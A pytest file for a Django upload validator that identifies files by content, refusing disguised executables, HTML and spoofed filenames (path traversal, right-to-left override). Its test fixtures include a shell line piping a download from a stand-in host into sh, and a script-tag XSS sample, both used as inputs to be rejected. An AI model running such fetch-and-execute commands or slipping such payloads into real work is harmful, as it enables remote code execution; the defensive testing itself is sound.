"""projets/uploads.py: what a file is comes from its content, never from its name or the browser."""

import datetime
import hashlib
import io
import zipfile

import filetype
import pytest
from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile
from PIL import Image

from projets.factories import PDF_MINIMAL
from projets.forms.fichiers import FICHIER_VIDE, DocumentPorteurForm, PieceJointeForm
from projets.uploads import sanitize_filename, taille_lisible, validate_upload

ODT_MIME = "application/vnd.oasis.opendocument.text"
ODS_MIME = "application/vnd.oasis.opendocument.spreadsheet"
DOCX_MIME = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
REFUS_FORMAT = (
    "Le fichier « statuts.pdf » n'est pas un PDF : son contenu ne correspond à aucun format accepté "
    "(PDF, image JPEG ou PNG, document texte ou tableur)."
)


def image(format_pil: str) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (8, 8), (200, 30, 30)).save(buffer, format=format_pil)
    return buffer.getvalue()


def opendocument(mime: str) -> bytes:
    """As LibreOffice writes them: `mimetype` first and stored uncompressed, then the content."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("mimetype", mime, compress_type=zipfile.ZIP_STORED)
        archive.writestr("META-INF/manifest.xml", '<?xml version="1.0"?><manifest:manifest/>')
        archive.writestr("content.xml", '<?xml version="1.0"?><office:document-content/>')
    return buffer.getvalue()


def office_open_xml(main_part: str, content_type: str, *, first: list[str] | None = None) -> bytes:
    """A DOCX or XLSX: [Content_Types].xml first (as Word and Excel write them), unless `first` says otherwise."""
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        f'<Override PartName="/{main_part}" ContentType="{content_type}"/></Types>'
    )
    parts = {name: "<x/>" for name in first or []}
    parts |= {"[Content_Types].xml": types, "_rels/.rels": "<Relationships/>", main_part: "<document/>"}
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def docx(**kwargs) -> bytes:
    return office_open_xml(
        "word/document.xml",
        "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
        **kwargs,
    )


def xlsx() -> bytes:
    return office_open_xml(
        "xl/workbook.xml", "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
    )


ELF = b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 8 + b"\x02\x00\x3e\x00" + b"\x00" * 100
PE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"PE\x00\x00" + b"\x00" * 64
MACH_O = b"\xcf\xfa\xed\xfe\x07\x00\x00\x01" + b"\x00" * 100
SCRIPT = b"#!/bin/sh\ncurl https://example.invalid | sh\n"


def upload(name: str, data: bytes, content_type: str = "application/pdf") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, data, content_type=content_type)


def refusal(name: str, data: bytes, **kwargs) -> str:
    with pytest.raises(ValidationError) as error:
        validate_upload(upload(name, data, **kwargs))
    return " ".join(error.value.messages)


@pytest.mark.parametrize(
    ("name", "build", "type_mime", "extension"),
    [
        ("statuts.pdf", lambda: PDF_MINIMAL, "application/pdf", "pdf"),
        ("rib.png", lambda: image("PNG"), "image/png", "png"),
        ("rib.jpg", lambda: image("JPEG"), "image/jpeg", "jpg"),
        ("Photo du RIB.JPEG", lambda: image("JPEG"), "image/jpeg", "jpg"),
        ("statuts.odt", lambda: opendocument(ODT_MIME), ODT_MIME, "odt"),
        ("comptes.ods", lambda: opendocument(ODS_MIME), ODS_MIME, "ods"),
        ("rapport.docx", docx, DOCX_MIME, "docx"),
        ("comptes.xlsx", xlsx, XLSX_MIME, "xlsx"),
    ],
)
def test_real_files_of_each_accepted_format_are_accepted(name, build, type_mime, extension):
    data = build()
    uploaded = upload(name, data, content_type="application/octet-stream")  # what the browser says is ignored
    info = validate_upload(uploaded)
    assert (info.type_mime, info.extension, info.taille) == (type_mime, extension, len(data))
    assert info.sha256 == hashlib.sha256(data).hexdigest()
    assert info.nom_original == name
    assert uploaded.read() == data  # rewound: the service can store it whole


def test_the_fingerprint_is_computed_over_the_whole_file_chunk_by_chunk():
    data = PDF_MINIMAL + b"%" + b"x" * (3 * 64 * 1024) + b"\n"  # several chunks of 64 kio
    info = validate_upload(upload("comptes.pdf", data))
    assert info.sha256 == hashlib.sha256(data).hexdigest() and info.taille == len(data)


def test_an_office_file_whose_first_entries_do_not_name_it_is_recognised_from_its_directory():
    data = docx(first=["docProps/app.xml", "docProps/core.xml", "docProps/custom.xml", "customXml/item1.xml"])
    assert filetype.guess_mime(data) == "application/zip"  # the first bytes alone are not enough here
    assert validate_upload(upload("rapport.docx", data)).type_mime == DOCX_MIME


@pytest.mark.parametrize("programme", [ELF, PE, MACH_O, SCRIPT], ids=["elf", "pe", "mach-o", "script"])
def test_an_executable_named_statuts_pdf_is_refused_with_a_french_message(programme):
    message = refusal("statuts.pdf", programme)
    assert message.startswith("Le fichier « statuts.pdf » n'est pas un PDF : c'est un programme, refusé par sécurité.")
    assert "formats acceptés : PDF, image JPEG ou PNG, document texte ou tableur" in message


@pytest.mark.parametrize(
    "contenu",
    [
        "Statuts de l'association, adoptés le 12 mars 2019.".encode(),
        b"<html><script>alert(1)</script></html>",
        b"GIF89a\x01\x00\x01\x00\x00\x00\x00;",
        b"PK\x03\x04" + b"\x00" * 60,  # a broken ZIP
    ],
    ids=["texte", "html", "gif", "zip-casse"],
)
def test_content_of_no_accepted_format_is_refused_whatever_the_name_and_browser_say(contenu):
    assert refusal("statuts.pdf", contenu, content_type="application/pdf").startswith(REFUS_FORMAT)


def test_a_plain_zip_archive_is_refused_even_with_documents_inside():
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("statuts.pdf", PDF_MINIMAL)
    assert refusal("statuts.pdf", buffer.getvalue()).startswith(REFUS_FORMAT)


def test_a_file_with_an_unknown_extension_and_unknown_content_is_refused_without_naming_a_format():
    message = refusal("notes.txt", b"quelques notes")
    assert message.startswith("Le fichier « notes.txt » est refusé : son contenu ne correspond à aucun format accepté")


def test_a_png_named_pdf_is_refused_with_a_message_saying_it_is_an_image():
    message = refusal("statuts.pdf", image("PNG"))
    assert message.startswith("Le fichier « statuts.pdf » est une image PNG, pas un PDF : renommez-le « statuts.png »")


def test_a_pdf_named_exe_is_refused_and_the_right_name_is_suggested():
    message = refusal("statuts.exe", PDF_MINIMAL)
    assert "est un PDF, mais son nom se termine par « .exe » : renommez-le « statuts.pdf »" in message


def test_a_name_without_extension_takes_the_detected_one():
    assert validate_upload(upload("Statuts", PDF_MINIMAL)).nom_original == "Statuts.pdf"
    assert validate_upload(upload("Statuts AG 12.05.2023", PDF_MINIMAL)).nom_original == "Statuts AG 12.05.2023.pdf"


def test_an_empty_file_is_refused():
    assert refusal("statuts.pdf", b"").startswith("Le fichier « statuts.pdf » est vide")


def test_a_file_over_the_limit_is_refused_with_its_size_and_the_limit(settings):
    settings.FILE_UPLOAD_MAX_SIZE = 1024
    data = PDF_MINIMAL + b"x" * (1536 - len(PDF_MINIMAL))
    assert refusal("comptes.pdf", data).startswith("Le fichier pèse 1,5 ko ; la limite est de 1 ko.")
    assert validate_upload(upload("comptes.pdf", data[:1024])).taille == 1024  # exactly the limit is fine


def test_the_limit_is_10_mo_by_default_and_sizes_read_the_french_way():
    from contratville import settings as defaults

    assert defaults.FILE_UPLOAD_MAX_SIZE == 10 * 1024 * 1024
    assert taille_lisible(defaults.FILE_UPLOAD_MAX_SIZE) == "10 Mo"
    assert taille_lisible(int(12.25 * 1024 * 1024), arrondi_superieur=True) == "12,3 Mo"
    assert taille_lisible(10 * 1024 * 1024 + 1, arrondi_superieur=True) == "10,1 Mo"  # never "10 Mo > 10 Mo"
    assert taille_lisible(850 * 1024) == "850 ko" and taille_lisible(12) == "12 octets"


@pytest.mark.parametrize(
    ("uploaded", "displayed"),
    [
        ("C:\\Users\\tresoriere\\Documents\\statuts.pdf", "statuts.pdf"),
        ("../../etc/statuts.pdf", "statuts.pdf"),
        ("statuts\r\n\x00.pdf", "statuts.pdf"),
        ("facture\u202efdp.exe", "facturefdp.exe"),  # the right-to-left override would show "exe.pdf"
        ("  Statuts   révisés.pdf ", "Statuts révisés.pdf"),
        ("", "fichier"),
    ],
)
def test_the_original_name_is_cleaned_for_display(uploaded, displayed):
    assert sanitize_filename(uploaded) == displayed


def test_a_long_original_name_is_cut_to_255_characters_keeping_its_extension():
    nom = sanitize_filename("é" * 300 + ".pdf")
    assert len(nom) == 255 and nom.endswith("é.pdf")


def test_the_forms_show_the_refusal_next_to_the_file_field():
    form = PieceJointeForm({"libelle": "Devis"}, {"fichier": upload("devis.pdf", PE)})
    assert not form.is_valid()
    assert list(form.errors) == ["fichier"] and "c'est un programme" in form.errors["fichier"][0]
    form = PieceJointeForm({"libelle": "Devis"}, {"fichier": upload("devis.pdf", b"")})
    assert form.errors["fichier"] == [FICHIER_VIDE]  # Django's own check on empty files, in our words


def test_the_document_form_reads_french_dates_and_refuses_future_ones():
    fichier = {"fichier": upload("statuts.pdf", PDF_MINIMAL)}
    form = DocumentPorteurForm({"type": "statuts", "date_document": "15/06/2024"}, fichier)
    assert form.is_valid(), form.errors
    assert form.cleaned_data["date_document"] == datetime.date(2024, 6, 15)
    demain = datetime.date.today() + datetime.timedelta(days=2)
    form = DocumentPorteurForm({"type": "statuts", "date_document": demain.isoformat()}, fichier)
    assert "ne peut pas être dans le futur" in form.errors["date_document"][0]
